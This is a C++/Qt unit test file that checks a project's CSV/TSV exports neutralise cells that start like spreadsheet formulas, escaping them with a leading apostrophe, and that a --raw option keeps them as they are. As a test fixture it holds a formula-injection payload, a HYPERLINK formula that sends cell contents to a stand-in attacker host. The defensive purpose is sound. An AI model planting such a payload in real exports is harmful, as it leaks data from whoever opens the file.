// Finding 6 of issue 15: a matrix or plan cell that starts like a spreadsheet formula
// (=, +, -, @, tab, CR) must not reach a CSV/TSV export as is, or =HYPERLINK(...) runs when a
// partner opens the file. Exports neutralise such cells with a leading "'" (OWASP); --raw keeps
// them; our own reader takes the "'" off again, so that export then import is lossless.
#include "TestSupport.h"

#include "io/Export.h"
#include "io/RawTable.h"
#include "io/SpreadsheetSafety.h"
#include "matrix/Column.h"
#include "planning/PlanExport.h"

#include <QTest>

using namespace pm;
using namespace pm::test;

namespace {
const QString kLink = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");

// One offering per hostile start; the technique column carries it, the partner is plain.
QList<Offering> hostileOfferings()
{
    QList<Offering> out;
    int id = 1;
    for (const QString &technique : {kLink, QStringLiteral("+SUM(1;2)"), QStringLiteral("-2+3"), QStringLiteral("@SUM(A1)"),
                                     QStringLiteral("\t=1+1"), QStringLiteral("\r=1+1"), QStringLiteral("XRD")}) {
        Offering o;
        o.id = id++;
        o.partner = QStringLiteral("KIT");
        o.technique = technique;
        o.raw[size_t(Column::Partner)] = o.partner;
        o.raw[size_t(Column::Technique)] = technique;
        out.append(o);
    }
    return out;
}

QStringList column(const RawTable &table, Column c)
{
    const qsizetype at = table.header.indexOf(columnHeader(c));
    QStringList out;
    for (const RawRow &r : table.rows)
        out.append(at >= 0 && at < r.cells.size() ? r.cells[at] : QStringLiteral("<missing>"));
    return out;
}

Plan hostilePlan()
{
    Plan p;
    p.rank = 1;
    Step s;
    s.id = QStringLiteral("measure-1");
    s.partner = QStringLiteral("@evil");
    s.technique = kLink;
    s.instrument = QStringLiteral("-cmd");
    s.observables = {QStringLiteral("+x")};
    s.sample = QStringLiteral("=S1");
    s.mode = QStringLiteral("=mode");
    s.note = QStringLiteral("\tnote");
    s.cell = QStringLiteral("pouch");
    p.steps.append(s);
    return p;
}
} // namespace

class TestFormulaInjection : public QObject {
    Q_OBJECT

private slots:
    void theRule()
    {
        for (const char *bad : {"=1", "+1", "-1", "@1", "\t1", "\r1"})
            QCOMPARE(spreadsheet::neutralised(QString::fromLatin1(bad)), QLatin1Char('\'') + QString::fromLatin1(bad));
        for (const char *fine : {"", "1", "a=b", " =1", "'=1"})
            QCOMPARE(spreadsheet::neutralised(QString::fromLatin1(fine)), QString::fromLatin1(fine));
        QCOMPARE(spreadsheet::unneutralised(QStringLiteral("'=1")), QStringLiteral("=1"));
        QCOMPARE(spreadsheet::unneutralised(QStringLiteral("'abc")), QStringLiteral("'abc")); // a quote a user typed stays
    }

    void exportsNeutraliseFormulas_data()
    {
        QTest::addColumn<int>("format");
        QTest::addColumn<QChar>("separator");
        QTest::newRow("csv") << int(ExportFormat::Csv) << QChar(u',');
        QTest::newRow("tsv") << int(ExportFormat::Tsv) << QChar(u'\t');
    }
    void exportsNeutraliseFormulas()
    {
        QFETCH(int, format);
        QFETCH(QChar, separator);
        const Matrix matrix;
        const QList<Offering> offerings = hostileOfferings();
        const QByteArray safe = exportOfferings(offerings, matrix, ExportOptions{ExportFormat(format), true, false});
        // No line of the file has a cell that starts like a formula.
        const QList<QByteArray> lines = safe.split('\n');
        for (const QByteArray &line : lines)
            for (const QByteArray &cell : line.split(char(separator.unicode()))) {
                QByteArray c = cell;
                if (c.startsWith('"'))
                    c = c.mid(1);
                QVERIFY2(!spreadsheet::startsLikeFormula(QString::fromUtf8(c)), line.constData());
            }
        QVERIFY(safe.contains("'=HYPERLINK("));
        QVERIFY(safe.contains("'+SUM(1;2)"));
        QVERIFY(safe.contains("'-2+3"));
        QVERIFY(safe.contains("'@SUM(A1)"));

        // Read back by our own reader: exactly the cells exported (TSV turns tab and CR into blanks).
        auto table = readDelimited(safe, separator, QStringLiteral("export"));
        QVERIFY2(table, qPrintable(table ? QString() : table.error().text()));
        QStringList expected;
        for (const Offering &o : offerings)
            expected.append(format == int(ExportFormat::Tsv) ? QString(o.technique).replace(u'\t', u' ').remove(u'\r') : o.technique);
        QCOMPARE(column(*table, Column::Technique), expected);

        // --raw: the cells exactly as they are.
        const QByteArray raw = exportOfferings(offerings, matrix, ExportOptions{ExportFormat(format), true, true});
        QVERIFY(!raw.contains("'=HYPERLINK("));
        QVERIFY(raw.contains(format == int(ExportFormat::Csv) ? "\"=HYPERLINK(" : "\t=HYPERLINK("));
        QVERIFY(raw.contains(",+SUM(1;2)") || raw.contains("\t+SUM(1;2)"));
    }

    void planCsvNeutralisesFormulas()
    {
        const Plan plan = hostilePlan();
        const QString safe = QString::fromUtf8(planToCsv(plan));
        const QStringList lines = safe.split(u'\n', Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), 2);
        for (const QString &part : {QStringLiteral(",'@evil,"), QStringLiteral(",\"'=HYPERLINK("), QStringLiteral(",'-cmd,"),
                                    QStringLiteral(",'+x,"), QStringLiteral(",'=S1,"), QStringLiteral(",'=mode,"), QStringLiteral(",'\tnote")})
            QVERIFY2(lines[1].contains(part), qPrintable(part + QStringLiteral(" not in ") + lines[1]));
        const QString raw = QString::fromUtf8(planToCsv(plan, true));
        for (const QString &part : {QStringLiteral(",@evil,"), QStringLiteral(",\"=HYPERLINK("), QStringLiteral(",-cmd,"), QStringLiteral(",=S1,")})
            QVERIFY2(raw.contains(part), qPrintable(part + QStringLiteral(" not in ") + raw));
    }

    // End to end: a partner's file with a formula in a cell, imported, exported by the CLI.
    void cliExportAndRaw()
    {
        TempDatabase fixture;
        const QString dir = fixture.dir.path();
        const QString in = dir + QStringLiteral("/hostile.tsv");
        writeFile(in, (columnHeader(Column::Partner) + u'\t' + columnHeader(Column::Technique) + u'\t' + columnHeader(Column::Instrument)
                       + QStringLiteral("\nKIT\t") + kLink + QStringLiteral("\t@SUM(A1)\n"))
                          .toUtf8());
        fixture.store.reset();
        fixture.db.reset();
        const CliRun imported = runCli({QStringLiteral("--db"), fixture.path, QStringLiteral("import"), in});
        QVERIFY2(imported.code == 0, qPrintable(imported.err));

        const QString safePath = dir + QStringLiteral("/safe.csv");
        const CliRun safe = runCli({QStringLiteral("--db"), fixture.path, QStringLiteral("export"), safePath});
        QVERIFY2(safe.code == 0, qPrintable(safe.err));
        const QByteArray safeBytes = readFile(safePath);
        QVERIFY2(safeBytes.contains("\"'=HYPERLINK(") && safeBytes.contains(",'@SUM(A1)"), safeBytes.constData());

        const QString rawPath = dir + QStringLiteral("/raw.tsv");
        const CliRun raw = runCli({QStringLiteral("--db"), fixture.path, QStringLiteral("export"), QStringLiteral("--raw"), rawPath});
        QVERIFY2(raw.code == 0, qPrintable(raw.err));
        const QByteArray rawBytes = readFile(rawPath);
        QVERIFY2(rawBytes.contains("\t=HYPERLINK(") && rawBytes.contains("\t@SUM(A1)"), rawBytes.constData());
        QVERIFY(!rawBytes.contains("'="));
    }
};

QTEST_GUILESS_MAIN(TestFormulaInjection)
#include "test_formula_injection.moc"
